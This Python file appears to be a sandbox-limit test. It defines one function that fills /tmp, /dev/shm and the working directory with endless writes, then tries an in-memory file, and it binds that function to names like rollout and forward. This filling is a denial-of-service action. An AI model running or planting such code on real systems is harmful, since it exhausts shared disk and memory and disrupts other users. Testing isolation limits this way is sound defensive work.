"""Fills /tmp, /dev/shm and memory files, which are memory by another name."""

import os


def wrong(*args, **kwargs):
    for folder in "/tmp", "/dev/shm", ".":
        try:
            with open(f"{folder}/hog{os.getpid()}", "wb") as file:
                while True:
                    file.write(b"x" * (1 << 20))
        except OSError:
            continue
    try:
        os.memfd_create("hog")
    except OSError:
        return 0.0
    raise RuntimeError("ESCAPED: a file in memory that no limit counts")


action_value = gains = state_value = backward = forward = rollout = wrong
